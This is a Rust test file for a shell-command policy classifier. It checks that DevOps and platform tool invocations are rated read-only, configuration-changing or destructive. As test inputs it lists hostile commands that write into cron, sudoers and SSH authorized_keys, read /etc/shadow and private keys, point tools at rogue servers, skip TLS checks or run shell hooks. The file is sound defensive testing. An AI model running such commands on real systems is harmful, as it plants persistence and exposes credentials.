//! The DevOps (Terraform, Terragrunt, Ansible, Nomad, Consul, Vault, Packer) and platform
//! (RabbitMQ, MinIO client, skopeo, crane, CI runners, lego) subcommands that used to be
//! lenient: an option they do not declare, wherever it stands and however it is spelled,
//! makes the command ask every time (the real option may take the next word as its value,
//! write a file, run a program or talk to another server); dangerous declared options raise
//! the class; everyday uses keep their class.

use nomos_policy::{Class, classify};

/// Each converted state-changing subcommand: the words up to the first operand, and a
/// realistic rest of the command (operands), with the class of the everyday form.
const CHANGERS: &[(&str, &str, Class)] = &[
    ("terraform refresh", "", Class::ConfigMutation),
    ("tofu refresh -lock=false", "", Class::ConfigMutation),
    ("terragrunt apply", "", Class::ConfigMutation),
    ("terragrunt init", "", Class::ConfigMutation),
    (
        "terragrunt import",
        "aws_instance.web i-0abc",
        Class::ConfigMutation,
    ),
    ("terragrunt run-all apply", "", Class::ConfigMutation),
    ("terragrunt run-all init", "", Class::ConfigMutation),
    (
        "ansible-galaxy install",
        "geerlingguy.nginx",
        Class::ConfigMutation,
    ),
    (
        "ansible-galaxy collection install",
        "community.general",
        Class::ConfigMutation,
    ),
    (
        "ansible-galaxy role install",
        "geerlingguy.docker",
        Class::ConfigMutation,
    ),
    (
        "ansible-galaxy collection build",
        "acme/tools",
        Class::ConfigMutation,
    ),
    (
        "ansible-vault encrypt",
        "group_vars/all/vault.yml",
        Class::ConfigMutation,
    ),
    ("ansible-vault rekey", "vault.yml", Class::ConfigMutation),
    (
        "ansible-vault encrypt_string",
        "s3cret",
        Class::ConfigMutation,
    ),
    (
        "nomad node drain -enable -yes",
        "1f3a",
        Class::ConfigMutation,
    ),
    (
        "nomad node eligibility -disable",
        "1f3a",
        Class::ConfigMutation,
    ),
    (
        "nomad job run -detach",
        "web.nomad.hcl",
        Class::ConfigMutation,
    ),
    ("nomad job dispatch", "backup", Class::ConfigMutation),
    ("nomad job scale", "web 3", Class::ConfigMutation),
    ("nomad job restart -yes", "web", Class::ConfigMutation),
    ("nomad alloc restart", "5d2e", Class::ConfigMutation),
    (
        "nomad alloc signal -s SIGHUP",
        "5d2e web",
        Class::ConfigMutation,
    ),
    ("nomad deployment promote", "7c1d", Class::ConfigMutation),
    ("nomad server join", "10.0.0.2", Class::ConfigMutation),
    (
        "nomad operator scheduler set-config",
        "",
        Class::ConfigMutation,
    ),
    (
        "nomad var put",
        "nomad/jobs/web version=2",
        Class::ConfigMutation,
    ),
    ("nomad namespace apply", "prod", Class::ConfigMutation),
    (
        "nomad acl token update -policy=ro",
        "1a2b",
        Class::ConfigMutation,
    ),
    (
        "nomad acl policy apply",
        "readonly ro.hcl",
        Class::ConfigMutation,
    ),
    ("nomad system reconcile", "summaries", Class::ConfigMutation),
    ("consul kv put", "app/config/max 10", Class::ConfigMutation),
    ("consul kv import", "@kv.json", Class::ConfigMutation),
    ("consul services register", "web.hcl", Class::ConfigMutation),
    (
        "vault write",
        "auth/approle/role/app policies=app",
        Class::ConfigMutation,
    ),
    (
        "vault kv put -mount=secret",
        "app user=app",
        Class::ConfigMutation,
    ),
    ("vault kv patch", "secret/app ttl=1h", Class::ConfigMutation),
    (
        "vault kv metadata put -max-versions=5",
        "secret/app",
        Class::ConfigMutation,
    ),
    (
        "vault secrets enable -path=kv",
        "kv-v2",
        Class::ConfigMutation,
    ),
    (
        "vault auth tune -default-lease-ttl=1h",
        "approle/",
        Class::ConfigMutation,
    ),
    ("vault policy write", "app app.hcl", Class::ConfigMutation),
    ("vault token renew", "", Class::ConfigMutation),
    ("packer build", ".", Class::ConfigMutation),
    ("packer init", ".", Class::ConfigMutation),
    (
        "packer plugins install",
        "github.com/hashicorp/amazon",
        Class::ConfigMutation,
    ),
    (
        "rabbitmqctl add_user",
        "alice s3cret",
        Class::ConfigMutation,
    ),
    (
        "rabbitmqctl set_policy",
        "ttl '^tmp' '{}'",
        Class::ConfigMutation,
    ),
    ("rabbitmqctl add_vhost", "staging", Class::ConfigMutation),
    (
        "rabbitmq-queues grow",
        "rabbit@mq4 all",
        Class::ConfigMutation,
    ),
    (
        "rabbitmq-plugins enable",
        "rabbitmq_management",
        Class::ConfigMutation,
    ),
    ("mc ilm import", "minio/b", Class::ConfigMutation),
    (
        "mc ilm rule add --expire-days 30",
        "minio/b",
        Class::ConfigMutation,
    ),
    ("mc version enable", "minio/b", Class::ConfigMutation),
    (
        "mc replicate update --id x",
        "minio/b",
        Class::ConfigMutation,
    ),
    ("mc quota set --size 1TiB", "minio/b", Class::ConfigMutation),
    ("mc tag set", "minio/b/o team=ops", Class::ConfigMutation),
    (
        "mc alias set",
        "minio http://10.0.0.5:9000 admin s3cret",
        Class::ConfigMutation,
    ),
    (
        "mc admin user add",
        "minio bob s3cret",
        Class::ConfigMutation,
    ),
    (
        "mc admin policy attach",
        "minio readonly --user bob",
        Class::ConfigMutation,
    ),
    (
        "skopeo copy",
        "docker://nginx:1.27 docker://registry.lan/nginx:1.27",
        Class::ConfigMutation,
    ),
    (
        "skopeo sync --src docker --dest docker",
        "nginx registry.lan/mirror",
        Class::ConfigMutation,
    ),
    ("skopeo login", "registry.lan", Class::ConfigMutation),
    (
        "crane copy",
        "nginx:1.27 registry.lan/nginx:1.27",
        Class::ConfigMutation,
    ),
    (
        "crane mutate --label a=b",
        "registry.lan/app:v1",
        Class::ConfigMutation,
    ),
    ("gitlab-runner register -n", "", Class::ConfigMutation),
    ("gitlab-runner start", "", Class::ConfigMutation),
    (
        "gitlab-runner reset-token --all-runners",
        "",
        Class::ConfigMutation,
    ),
    (
        "forgejo-runner register --no-interactive",
        "",
        Class::ConfigMutation,
    ),
    ("lego -d example.com --http run", "", Class::ConfigMutation),
    (
        "lego -d example.com --http renew",
        "",
        Class::ConfigMutation,
    ),
];

/// Undeclared options the real tools have (or could grow), in every spelling: long with
/// `=`, long with its value in the next word, single-dash long (Go `flag`), bundled
/// shorts, a short with an attached value.
const UNDECLARED: &[&str] = &[
    "--exec=/tmp/x",
    "--exec /tmp/x",
    "-Qexec=/tmp/x",
    "-Qexec /tmp/x",
    "--output /etc/cron.d/x",
    "--kubeconfig=/tmp/k",
    "--as get",
    "-Zq",
    "-Z",
    "-Zfoo",
    "--post-renderer ./x",
    "--token-file /tmp/t",
];

fn join(parts: &[&str]) -> String {
    parts
        .iter()
        .filter(|p| !p.is_empty())
        .copied()
        .collect::<Vec<_>>()
        .join(" ")
}

/// The commands of `cmds` whose decision is not `want`, with why.
fn off_class(cmds: &[String], want: Class) -> Vec<String> {
    assert!(!cmds.is_empty(), "the family is empty");
    cmds.iter()
        .map(|c| (c, classify(c)))
        .filter(|(_, d)| d.class != want)
        .map(|(c, d)| format!("{c}: {} ({}: {})", d.class, d.rule(), d.reason()))
        .collect()
}

#[test]
fn everyday_changes_keep_their_class() {
    for want in [Class::ConfigMutation, Class::Destructive] {
        let cmds: Vec<String> = CHANGERS
            .iter()
            .filter(|(_, _, c)| *c == want)
            .map(|(head, rest, _)| join(&[head, rest]))
            .collect();
        if cmds.is_empty() {
            continue;
        }
        let off = off_class(&cmds, want);
        assert!(off.is_empty(), "{} not {want}: {off:#?}", off.len());
    }
}

#[test]
fn an_undeclared_option_after_a_subcommand_asks_every_time() {
    let mut cmds = Vec::new();
    for (head, rest, _) in CHANGERS {
        for opt in UNDECLARED {
            // Before the operands (Go `flag` tools stop at the first one), and after them
            // for the GNU and pflag tools that read options anywhere.
            cmds.push(join(&[head, opt, rest]));
        }
    }
    let off = off_class(&cmds, Class::Destructive);
    assert!(off.is_empty(), "{} do not ask: {off:#?}", off.len());
}

#[test]
fn an_undeclared_option_after_the_operands_asks_where_the_tool_reads_it() {
    // GNU and pflag tools read options after operands too.
    let heads: &[(&str, &str)] = &[
        ("rabbitmqctl set_permissions -p /", "alice '.*' '.*' '.*'"),
        ("rabbitmq-queues add_member", "jobs rabbit@mq2"),
        ("rabbitmq-plugins disable", "rabbitmq_shovel"),
        ("mc tag set", "minio/b/o team=ops"),
        ("mc admin user disable", "minio bob"),
        ("mc alias import", "minio"),
        ("skopeo copy", "docker://a docker://b"),
        ("crane copy", "a registry.lan/b"),
        ("crane tag", "registry.lan/app:abc v1"),
        ("ansible-galaxy install", "geerlingguy.nginx"),
        ("ansible-vault encrypt", "vault.yml"),
        ("gitlab-runner start", ""),
        ("forgejo-runner register --no-interactive", ""),
    ];
    let mut cmds = Vec::new();
    for (head, rest) in heads {
        for opt in UNDECLARED {
            cmds.push(join(&[head, rest, opt]));
        }
    }
    let off = off_class(&cmds, Class::Destructive);
    assert!(off.is_empty(), "{} do not ask: {off:#?}", off.len());
}

#[test]
fn dangerous_declared_options_of_state_changing_subcommands_ask() {
    let cmds: Vec<String> = [
        // Files written where they run or grant access.
        "terraform refresh -state-out=/etc/cron.d/x",
        "terraform refresh -backup /root/.bashrc",
        "tofu refresh -state-out /etc/sudoers.d/x",
        "terragrunt apply -state-out=/etc/cron.d/x",
        "terragrunt run-all apply -backup=/root/.ssh/authorized_keys",
        "packer hcl2_upgrade -output-file=/etc/cron.d/x x.json",
        "packer hcl2_upgrade -output-file /etc/profile.d/x.sh x.json",
        "ansible-galaxy install -p /root/.ssh geerlingguy.nginx",
        "ansible-galaxy collection install --collections-path=/etc/cron.d x.y",
        "ansible-galaxy collection build --output-path /etc/systemd/system",
        "ansible-vault encrypt --output /etc/sudoers.d/x f.yml",
        "ansible-vault encrypt_string --output=/etc/cron.d/x s3cret",
        "skopeo copy --dest-shared-blob-dir /etc/cron.d docker://a docker://b",
        "skopeo copy --digestfile=/root/.bashrc docker://a docker://b",
        "skopeo login --authfile /etc/cron.d/x registry.lan",
        "skopeo logout --authfile=/etc/sudoers.d/x --all",
        "crane mutate -o /etc/cron.d/x registry.lan/x:1",
        "crane append --output=/root/.profile -f l.tar -t r/x:2",
        "crane push --image-refs /etc/cron.d/x app.tar registry.lan/app",
        "gitlab-runner register -n -c /etc/cron.d/x",
        "gitlab-runner reset-token --config=/root/.bashrc --all-runners",
        // Secrets read and sent on.
        "terraform refresh -var-file=/etc/shadow",
        "terragrunt init -backend-config=/root/.ssh/id_rsa",
        "packer build -var-file /etc/shadow .",
        "nomad job run -var-file=/etc/shadow web.nomad.hcl",
        "nomad job run -output -var-file /etc/shadow web.nomad.hcl",
        "nomad job run -output /etc/shadow",
        "ansible-galaxy install -r /etc/shadow",
        "skopeo copy --decryption-key=/root/.ssh/id_rsa docker://a docker://b",
        "skopeo copy --sign-passphrase-file /etc/shadow docker://a docker://b",
        "crane append -f /root/.ssh/id_ed25519 -t registry.lan/x:2",
        "gitlab-runner register -n --tls-key-file=/etc/ssl/private/x.key",
        "lego -d example.com --http run --private-key /root/.ssh/id_rsa",
        // Programs run, other servers, weaker TLS.
        "lego -d example.com --http run --run-hook ./hook.sh",
        "lego -d example.com --http renew --renew-hook=./hook.sh",
        "lego -d example.com --dns cloudflare renew --days 30 --deploy-hook x",
        "nomad job run -address=http://10.9.9.9:4646 web.nomad.hcl",
        "nomad node drain -enable -yes -tls-skip-verify 1f3a",
        "consul kv put -http-addr=http://10.9.9.9:8500 app/x 1",
        "vault write -address https://10.9.9.9:8200 secret/x a=b",
        "vault kv put -tls-skip-verify secret/app user=app",
        "ansible-galaxy collection install -s https://galaxy.evil x.y",
        "ansible-galaxy role install --server=https://galaxy.evil x",
        "ansible-galaxy install -c geerlingguy.nginx",
        "ansible-galaxy collection install --api-key x x.y",
        "nomad var lock nomad/jobs/web/lock sh -c id",
        // Destroying forms of a changing subcommand.
        "terragrunt apply -destroy",
        "terragrunt run-all apply -auto-approve -destroy",
        "nomad job stop -purge web",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let off = off_class(&cmds, Class::Destructive);
    assert!(off.is_empty(), "{} do not ask: {off:#?}", off.len());
}

#[test]
fn declared_value_options_take_their_value_and_flags_do_not() {
    // A flag never swallows the next word and a value option always does: the class and
    // the operand that ends up checked come out right either way round.
    let config: Vec<String> = [
        "terraform refresh -target module.web -var 'region=eu-west-1'",
        "terragrunt init -upgrade -reconfigure -backend=false",
        "terragrunt apply -auto-approve -replace aws_instance.web",
        "nomad node drain -enable -deadline 30m -yes 1f3a",
        "nomad node drain -enable -deadline=30m -ignore-system -yes 1f3a",
        "nomad job run -detach -var 'image=nginx:1.27' -var-file prod.vars web.nomad.hcl",
        "nomad job dispatch -meta env=prod -detach backup",
        "nomad job scale -check-index 12 web 3",
        "nomad operator scheduler set-config -memory-oversubscription true -scheduler-algorithm spread",
        "nomad acl token update -name ci -policy ro -type client 1a2b",
        "consul kv put -cas -modify-index 12 app/x 1",
        "consul kv put -flags 42 -base64 app/x Zm9v",
        "consul services register -name web -port 80 -tag v1",
        "vault write -f auth/approle/role/app/secret-id",
        "vault kv put -cas 0 -mount secret app user=app",
        "vault secrets enable -path kv -version 2 kv",
        "vault auth enable -description 'ci logins' -local approle",
        "vault token renew -increment 1h",
        "packer build -only amazon-ebs.web -var region=eu-west-1 -force .",
        "packer plugins install -force github.com/hashicorp/amazon",
        "ansible-galaxy install -r requirements.yml -p roles/ --force",
        "ansible-galaxy collection install -U --pre -n community.general",
        "ansible-vault encrypt --vault-id prod@prompt group_vars/all/vault.yml",
        "ansible-vault encrypt_string --name db_pass -p",
        "rabbitmqctl set_policy --apply-to queues --priority 1 ttl '^tmp' '{}'",
        "rabbitmqctl add_vhost --description billing --default-queue-type quorum /billing",
        "rabbitmq-queues grow rabbit@mq4 all --vhost-pattern '.*' --queue-pattern '^q' --errors-only",
        "rabbitmq-plugins enable --offline rabbitmq_prometheus",
        "mc ilm rule add --expire-days 90 --prefix logs/ minio/b",
        "mc replicate add --remote-bucket https://k:s@peer/b --priority 1 minio/b",
        "mc tag set -r --versions minio/b team=ops",
        "mc alias set minio http://10.0.0.5:9000 admin s3cret --api s3v4 --path auto",
        "mc admin policy attach minio readonly -u bob",
        "skopeo copy --src-tls-verify=false --dest-creds u:p --all docker://a docker://b",
        "skopeo copy --retry-times 3 --multi-arch all docker://a docker://b",
        "skopeo login -u bob --password-stdin registry.lan",
        "crane copy --all-tags --jobs 4 nginx registry.lan/nginx",
        "crane append -f layer.tar -t registry.lan/app:v2 -b alpine",
        "gitlab-runner register -n -u https://gitlab.lan -r tok --executor docker --docker-image alpine",
        "gitlab-runner register --non-interactive --url https://gitlab.lan --token glrt-x --locked=false",
        "gitlab-runner start -n gitlab-runner",
        "forgejo-runner register --no-interactive --instance https://git.lan --token x --name r1 --labels docker",
        "lego -d example.com --http run --must-staple --preferred-chain 'ISRG Root X1'",
        "lego -d example.com --dns cloudflare renew --days 30 --reuse-key --no-random-sleep",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let off = off_class(&config, Class::ConfigMutation);
    assert!(
        off.is_empty(),
        "{} not config_mutation: {off:#?}",
        off.len()
    );
    // A value option whose value is a secret file, spelled three ways.
    let secret: Vec<String> = [
        "terraform refresh -var-file /etc/shadow",
        "terraform refresh -var-file=/etc/shadow",
        "nomad job run -var-file /etc/shadow web.nomad.hcl",
        "packer build -var-file=/etc/shadow .",
        "ansible-galaxy install -r /etc/shadow",
        "ansible-galaxy install --role-file=/etc/shadow",
        "ansible-galaxy install --role-file /etc/shadow",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let off = off_class(&secret, Class::Destructive);
    assert!(off.is_empty(), "{} do not ask: {off:#?}", off.len());
}

#[test]
fn destructive_subcommands_stay_destructive_with_their_options() {
    let cmds: Vec<String> = [
        "terraform destroy -auto-approve -target=aws_instance.web",
        "terraform state rm -dry-run module.x",
        "terraform workspace delete -force staging",
        "terraform force-unlock -force 1234-abcd",
        "terragrunt destroy -auto-approve",
        "terragrunt output -raw db_password",
        "terragrunt run-all destroy -auto-approve",
        "nomad job stop -yes -detach web",
        "nomad alloc stop -detach 5d2e",
        "nomad eval delete -filter 'Status == \"blocked\"' -yes",
        "nomad var get -item password nomad/jobs/db",
        "nomad var purge -check-index 3 nomad/jobs/web",
        "nomad acl token create -name ci -policy ro",
        "nomad operator raft remove-peer -peer-id abc",
        "consul kv delete -recurse app/",
        "consul force-leave -prune node3",
        "vault read -field password database/creds/app",
        "vault kv get -field password -mount secret db",
        "vault kv destroy -versions 2 secret/app",
        "vault token create -policy app -ttl 1h -orphan",
        "vault token revoke -accessor 8f3a",
        "ansible-vault view --vault-password-file ~/.vault_pass secrets.yml",
        "ansible-vault decrypt --output - vault.yml",
        "ansible-galaxy remove -p roles/ geerlingguy.nginx",
        "rabbitmqctl delete_queue --if-empty -p / jobs",
        "rabbitmqctl close_all_connections --global 'maintenance'",
        "rabbitmq-queues shrink rabbit@mq1 --errors-only",
        "mc ilm rule rm --all --force minio/b",
        "mc replicate rm --all --force minio/b",
        "mc admin user remove minio bob",
        "mc admin service restart --wait minio",
        "skopeo delete --tls-verify=false docker://registry.lan/app:old",
        "crane delete registry.lan/app@sha256:0123abcd",
        "gitlab-runner unregister --all-runners",
        "gitlab-runner install --user gitlab-runner --working-directory /home/gitlab-runner",
        "forgejo-runner daemon -c /etc/forgejo-runner/config.yml",
        "lego -d example.com revoke --keep --reason 4",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let off = off_class(&cmds, Class::Destructive);
    assert!(off.is_empty(), "{} not destructive: {off:#?}", off.len());
    for c in &cmds {
        let d = classify(c);
        assert!(!d.unknown, "{c}: {} {}", d.rule(), d.reason());
    }
}

#[test]
fn files_named_by_changing_subcommands_are_checked() {
    // Job, policy, service and template files are read (and echoed in parse errors);
    // `vault policy fmt` rewrites its file; a node pool deletion is no mere change.
    let cmds: Vec<String> = [
        "packer build /etc/shadow",
        "packer init /root/.ssh/id_rsa",
        "packer build -force /etc/pve/priv/authkey.key",
        "consul services register /etc/shadow",
        "consul services register -name web /root/.aws/credentials",
        "nomad namespace apply /etc/shadow",
        "nomad acl policy apply readonly /etc/shadow",
        "nomad acl policy apply -description x readonly /root/.ssh/id_ed25519",
        "nomad node pool apply /etc/ssh/ssh_host_ed25519_key",
        "nomad job dispatch backup /root/.aws/credentials",
        "nomad job run -detach /etc/shadow",
        "vault policy write app /etc/shadow",
        "vault policy write app /root/.vault-token",
        "vault policy fmt /etc/cron.d/x",
        "vault policy fmt /root/.bashrc",
        "mc admin policy create minio ro /etc/shadow",
        "mc admin policy create minio ro /root/.aws/credentials",
        "nomad node pool delete batch",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    let off = off_class(&cmds, Class::Destructive);
    assert!(off.is_empty(), "{} do not ask: {off:#?}", off.len());
    crate::families::assert_all_read_only(&[
        "nomad node meta read -node-id 1f3a",
        "nomad node pool list",
        "nomad node pool info batch",
        "nomad node pool nodes -filter 'Status == \"ready\"' batch",
    ]);
}

#[test]
fn read_only_neighbours_stay_read_only() {
    crate::families::assert_all_read_only(&[
        "terraform validate -json",
        "terraform state list -id=i-0abc module.web",
        "nomad job status web",
        "nomad node status -self -stats",
        "nomad alloc logs -stderr -tail -n 100 5d2e web",
        "consul kv get -recurse app/",
        "consul members -detailed",
        "vault kv list -mount=secret app",
        "vault status -format=json",
        "packer validate -syntax-only build.pkr.hcl",
        "ansible-galaxy collection list --format json",
        "rabbitmqctl list_queues -p /prod name messages",
        "rabbitmq-queues quorum_status --vhost=/ jobs",
        "rabbitmq-plugins list -E -m",
        "mc ilm rule ls --transition minio/b",
        "mc replicate status --bw minio/b",
        "mc tag list -r minio/b",
        "mc admin user ls minio",
        "skopeo inspect --raw docker://nginx:1.27",
        "crane ls --full-ref registry.lan/app",
        "gitlab-runner verify --name web-01",
        "lego list --accounts",
        "terraform refresh -help",
        "nomad job run -help",
        "vault kv put -help",
    ]);
}
